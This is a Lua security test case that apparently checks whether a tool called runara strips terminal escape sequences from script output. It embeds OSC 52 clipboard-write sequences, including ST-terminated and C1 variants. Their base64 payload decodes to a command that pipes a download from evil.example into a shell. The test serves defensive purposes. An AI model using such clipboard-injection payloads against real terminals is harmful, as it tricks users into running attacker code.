-- Attempt: write to the user's clipboard through the terminal (OSC 52), from print, runara.log and
-- a progress-like line, so that a paste later runs the attacker's command.
-- Why it must fail: text from a script reaches the terminal and run.log made visible (ESC as ^[,
-- BEL as ^G: docs/cli.md, "Output"); the corpus checks that no raw ESC, BEL or CR is left.
-- expect: safe
local payload = "\27]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\7"
print("copied? " .. payload)
runara.log("copied? " .. payload)
print("st terminator \27]52;p;Y3VybA==\27\\ and C1 \194\157" .. "52;c;Y3VybA==\194\156")
print("SAFE")
